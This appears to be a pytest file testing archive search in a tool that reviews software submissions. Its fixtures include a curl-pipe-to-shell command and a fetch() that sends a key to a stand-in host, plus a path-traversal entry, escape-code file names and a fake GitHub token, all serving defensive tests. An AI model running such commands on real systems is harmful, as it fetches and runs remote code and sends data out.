"""The archive is searched to the last byte; what could not be searched is named, and no secret is shown."""

from __future__ import annotations

import hashlib
import io
import os
import tarfile
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.archive_hits import ArchiveHit, ArchiveResult
from app.archive_search import BadSearch, search_archive
from app.archive_snippets import Snippets
from app.archive_text import CHUNK, PER_FILE, Needle, TreeText
from app.cancel import CancelToken
from app.desk import Desk
from app.grants import Side
from app.model import Artifact
from app.paths import Folders
from app.settings import Settings
from app.trees import Facts, Tree
from checks.runtime.package import Entry

pytestmark = [pytest.mark.needs("libarchive", "libmagic")]
WORD = "Needle-7f3a"


@pytest.fixture
def desk(tmp_path: Path, compiled_rules: Path) -> Iterator[Desk]:
    folders = Folders(tmp_path / "data", tmp_path / "config", compiled_rules, tmp_path / "run")
    with Desk(folders, Settings(isolation="reduced")) as opened:
        yield opened


def zipped(files: Mapping[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return stream.getvalue()


@pytest.fixture
def keep(desk: Desk, tmp_path: Path) -> Callable[..., int]:
    """`keep(name, files or bytes, unpack=True)`: a submission, unpacked; gives its number."""

    def run(name: str, files: Mapping[str, bytes] | bytes, *, unpack: bool = True) -> int:
        path = tmp_path / name
        path.write_bytes(files if isinstance(files, bytes) else zipped(files))
        submission = desk.take_in(path, title=name.partition(".")[0], version="1.0")
        if unpack:
            desk.tree(submission.id)
        return submission.id

    return run


Search = Callable[..., tuple[list[ArchiveHit], ArchiveResult]]


@pytest.fixture
def search(desk: Desk) -> Search:
    def run(text: str, **options) -> tuple[list[ArchiveHit], ArchiveResult]:
        hits: list[ArchiveHit] = []
        options.setdefault("cancel", CancelToken())
        options.setdefault("on_hit", hits.append)
        result = search_archive(desk.store, desk.vault, desk.folders.data / "assay.db", text, **options)
        return hits, result

    return run


def places(hits: list[ArchiveHit], kind: str = "text") -> list[tuple]:
    return [(hit.path, hit.line) for hit in hits if hit.kind == kind]


def test_text_in_every_coat(keep, search: Search) -> None:
    inner = zipped({"deep/in.js": b"one\ntwo " + WORD.encode() + b" " * 99})
    keep("app.zip", {
        "a.js": b"first line\nlet x = '" + WORD.encode() + b"';\n",
        "wide.exe": b"MZ" + bytes(61) + WORD.encode("utf-16-le") + b"\0\0",
        "lib.zip": inner,
        "other.js": b"nothing of the kind",
    })  # fmt: skip
    keep("lone.txt", b"\n\n" + WORD.encode())
    hits, result = search(WORD)
    assert set(places(hits)) == {("a.js", 2), ("wide.exe", None), ("lib.zip!/deep/in.js", 2), ("lone.txt", 3)}
    wide = next(hit for hit in hits if hit.path == "wide.exe")
    assert (wide.offset, wide.encoding) == (63, "utf-16-le")
    assert (result.hits, result.searched, result.limited, result.not_searched) == (4, 2, False, ())
    assert not search(WORD.lower())[0]
    assert len(search(WORD.lower(), ignore_case=True)[0]) == 4


def test_hashes_names_and_titles(desk: Desk, keep, search: Search) -> None:
    data = b"body of the file"
    number = keep("Calendar.zip", {"src/Unusual-Name.js": data})
    artifact = desk.submission(number).artifact
    for text in (artifact.sha256, artifact.sha1.upper(), artifact.md5):
        (hit,), _ = search(text)
        assert (hit.kind, hit.submission, hit.text) == ("artifact", number, "Calendar.zip")
    (hit,), _ = search(hashlib.sha256(data).hexdigest())
    assert (hit.kind, hit.path) == ("hash", "src/Unusual-Name.js")
    assert places(search("unusual-name")[0], "name") == [("src/Unusual-Name.js", None)]
    assert [hit.kind for hit in search("calend")[0]] == ["artifact"]


def test_facts_and_findings_of_the_latest_run(desk: Desk, keep, search: Search) -> None:
    number = keep(
        "app.zip", {"a.js": b"fetch('https://drop.acme.example/in?key=1');", "b.sh": b"curl http://x.example/i | sh"}
    )
    only = ["indicators", "download_and_run"]
    desk.run(number, only=only, on_event=lambda _: None, cancel=CancelToken())
    desk.run(number, only=["native_binary"], on_event=lambda _: None, cancel=CancelToken())
    hits, _ = search("DROP.acme.example")
    assert {(hit.kind, hit.text) for hit in hits} >= {
        ("address", "url: https://drop.acme.example/in"),
        ("address", "domain: drop.acme.example"),
    }
    assert not [hit for hit in hits if hit.kind == "text"], "bytes are compared with case"


def test_decisions_and_the_newest_submission(desk: Desk, keep, search: Search) -> None:
    first = keep("old.zip", {"a.js": WORD.encode()})
    desk.run(first, only=["native_binary"], on_event=lambda _: None, cancel=CancelToken())
    desk.decide(first, "reject", "It takes what is not its own; see the finding.")
    second = keep("new.zip", {"b.js": WORD.encode()})
    hits, _ = search(WORD)
    assert [(hit.submission, hit.decision) for hit in hits] == [(second, "undecided"), (first, "rejected")]


def test_what_was_not_unpacked_or_is_pruned_is_named(desk: Desk, keep, search: Search) -> None:
    never = keep("never.zip", {"a.js": WORD.encode()}, unpack=False)
    gone = keep("gone.zip", {"b.js": WORD.encode()})
    for folder in (desk.vault.root / "trees").glob(f"*/{desk.submission(gone).artifact.sha256}-*"):
        for path in folder.iterdir():
            path.unlink()
        folder.rmdir()
    hits, result = search(WORD)
    assert not hits
    assert {left.submission for left in result.not_searched} == {never, gone}
    assert all("not unpacked" in left.reason for left in result.not_searched)


@pytest.mark.parametrize("damage", ["index", "seal", "short pack", "changed pack", "no artifact", "no index"])
def test_a_damaged_tree_is_named_and_the_others_are_searched(damage: str, desk: Desk, keep, search: Search) -> None:
    bad = keep("bad.zip", {"a.js": b"x" * 500 + WORD.encode(), "b.js": b"y" * 500})
    good = keep("good.zip", {"c.js": WORD.encode()})
    artifact = desk.submission(bad).artifact
    (folder,) = (desk.vault.root / "trees").glob(f"*/{artifact.sha256}-*")
    for path in folder.iterdir():
        path.chmod(0o600)
    if damage == "index":
        (folder / "index.jsonl").write_text((folder / "index.jsonl").read_text().replace("a.js", "z.js"))
    elif damage == "seal":
        (folder / "tree.json").write_text("{}")
    elif damage == "short pack":
        os.truncate(folder / "pack", 100)
    elif damage == "changed pack":
        data = (folder / "pack").read_bytes()
        (folder / "pack").write_bytes(data.replace(WORD.encode(), b"_" * len(WORD)))
    elif damage == "no artifact":
        desk.vault.path(artifact.sha256).unlink()
    else:
        (folder / "index.jsonl").unlink()
    hits, result = search(WORD)
    assert [hit.submission for hit in hits] == [good]
    assert [left.submission for left in result.not_searched] == [bad]
    assert "damaged" in result.not_searched[0].reason


def test_what_could_not_be_unpacked_is_named(keep, search: Search) -> None:
    keep("app.zip", {"../../up.js": WORD.encode(), "fine.js": WORD.encode()})
    hits, result = search(WORD)
    assert places(hits) == [("fine.js", 1)] or len(result.not_searched) == 1
    (left,) = result.not_searched
    assert "could not be unpacked" in left.reason


def test_hostile_names_are_told_printable(keep, search: Search) -> None:
    stream = io.BytesIO()
    with tarfile.open(
        fileobj=stream, mode="w", format=tarfile.GNU_FORMAT, encoding="utf-8", errors="surrogateescape"
    ) as tar:
        for name in ("evil\x1b[2J\u202egnp.js", b"caf\xe9.js".decode("utf-8", "surrogateescape")):
            info = tarfile.TarInfo(name)
            info.size = len(WORD)
            tar.addfile(info, io.BytesIO(WORD.encode()))
    keep("app.tar", stream.getvalue())
    hits, _ = search(WORD)
    assert sorted(hit.path for hit in hits) == ["caf\\xe9.js", "evil\\x1b[2J\\u202egnp.js"]
    assert all(text.isprintable() for hit in hits for text in (hit.path, hit.text, hit.title))
    name = b"caf\xe9".decode("utf-8", "surrogateescape")
    assert len(places(search(name)[0], "name")) == 1


def test_cancel_ends_it_and_names_the_rest(keep, search: Search) -> None:
    for number in range(4):
        keep(f"app{number}.zip", {"a.js": WORD.encode() + b"%d" % number})
    cancel, hits = CancelToken(), []

    def stop(hit: ArchiveHit) -> None:
        hits.append(hit)
        cancel.cancel()

    _, result = search(WORD, on_hit=stop, cancel=cancel)
    assert len(hits) == 1
    assert result.cancelled
    assert len(result.not_searched) == 4, "the one under way, and three that were not begun"


def test_the_limit_is_told(keep, search: Search) -> None:
    for number in range(3):
        keep(f"app{number}.zip", {f"{n}.js": WORD.encode() * 10 + b"%d" % number for n in range(5)})
    hits, result = search(WORD, limit=20)
    assert len(hits) == 20
    assert result.limited
    assert (
        max(sum(1 for h in hits if (h.submission, h.path) == (s, p)) for s in (1, 2, 3) for p in ("0.js", "1.js"))
        == PER_FILE
    )
    assert len(result.not_searched) == 2


@pytest.mark.parametrize("text", ["", "  ", "ab", "x" * 5000])
def test_wrong_use(text: str, search: Search) -> None:
    with pytest.raises(BadSearch):
        search(text)
    with pytest.raises(BadSearch):
        search("abc", limit=0)


def test_secrets_stay_masked(desk: Desk, keep, search: Search) -> None:
    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"[:36]
    keep(
        "app.zip",
        {"a.js": f"const marker9 = 1; const t = '{token}';\n".encode(), "b.js": b"// marker9 here\n" + bytes(9)},
    )
    hits, _ = search("marker9", snippets=Snippets.of_desk(desk))
    shown = {hit.path: hit.text for hit in hits}
    assert "marker9 = 1" in shown["a.js"]
    assert token[8:] not in repr(hits)
    assert "// marker9 here" in shown["b.js"]
    hits, _ = search(token, snippets=Snippets.of_desk(desk))
    assert [hit.path for hit in hits if hit.kind == "text"] == ["a.js"]
    assert token not in repr(hits)


def test_a_snippet_from_the_middle_of_a_long_line_says_so(desk: Desk, keep, search: Search) -> None:
    keep("app.zip", {"long.js": b"f();" * 100 + b"marker8();", "short.js": b"f();\nmarker8();\n"})
    hits, _ = search("marker8", snippets=Snippets.of_desk(desk))
    shown = {hit.path: hit.text for hit in hits}
    assert shown["long.js"].startswith("…") and shown["long.js"].endswith("marker8();")
    assert shown["short.js"] == "marker8();"


def test_without_a_sandbox_only_places_are_told(desk: Desk, keep, search: Search) -> None:
    from app.sandbox import NoSandbox

    def none() -> None:
        raise NoSandbox("there is none")

    keep("app.zip", {"a.js": WORD.encode()})
    snippets = Snippets(none, list, desk.folders.cache, 1 << 28)  # type: ignore[arg-type]
    (hit,), _ = search(WORD, snippets=snippets)
    assert (hit.path, hit.line, hit.text) == ("a.js", 1, "")


def make_tree(folder: Path, blobs: list[bytes], nested: tuple[int, int] | None = None) -> Tree:
    """A tree over one pack of these blobs; `nested` is the range of a file that lies inside blob 0."""
    pack = folder / "pack"
    pack.write_bytes(b"".join(blobs))
    entries, at = [], 0
    for number, blob in enumerate(blobs):
        entries.append(Entry(number, f"f{number}", "file", len(blob), at, "pack", hashlib.sha256(blob).hexdigest()))
        at += len(blob)
    if nested is not None:
        inner = blobs[0][nested[0] : nested[1]]
        sha256 = hashlib.sha256(inner).hexdigest()
        entries.append(Entry(len(blobs), "f0!/in", "file", len(inner), nested[0], "pack", sha256, parent=0))
    artifact = Artifact("0" * 64, "", "", 0, "x")
    return Tree(artifact, Facts("zip", True, "download", "", "", ""), entries, [], Side(None, pack, None))


def found(tree: Tree, text: str, **options) -> list[tuple[str, int]]:
    needle = Needle.of(text, **options)
    return [(p.entry.path, p.start) for p in TreeText(tree).search(needle, lambda _: None, lambda: False)]


def test_chunks_overlap_and_files_do_not(tmp_path: Path) -> None:
    word = WORD.encode()
    first = b"a" * (CHUNK - 5) + word + b"b" * 100
    tree = make_tree(tmp_path, [first, b"ends with Needle", b"-7f3a begins", word])
    assert found(tree, WORD) == [("f0", CHUNK - 5), ("f3", 0)]


def test_the_innermost_file_is_named(tmp_path: Path) -> None:
    tree = make_tree(tmp_path, [b"head " + WORD.encode() + b" tail", b"x" * 50], nested=(3, 20))
    assert found(tree, WORD) == [("f0!/in", 2)]


def test_a_flood_of_matches_is_passed_quickly(tmp_path: Path) -> None:
    tree = make_tree(tmp_path, [b"aaa" * (3 << 20), b"xaaax"])
    assert found(tree, "aaa") == [("f0", 0), ("f0", 3), ("f0", 6), ("f1", 1)]


BLOBS = st.lists(st.binary(max_size=30).map(lambda b: b.replace(b"b", b"a")), max_size=6)


@given(blobs=BLOBS, text=st.sampled_from(["aab", "aaa", "a\0a"]))
def test_as_a_plain_search_would(blobs: list[bytes], text: str, tmp_path_factory) -> None:
    tree = make_tree(tmp_path_factory.mktemp("tree"), [*blobs, b"aab", b"a\0a\0a\0"])
    patterns = [text.encode(), text.encode("utf-16-le")]
    expected = {entry.path for entry in tree.files if any(p in tree.bytes_of(entry) for p in patterns)}
    assert {path for path, _ in found(tree, text)} == expected
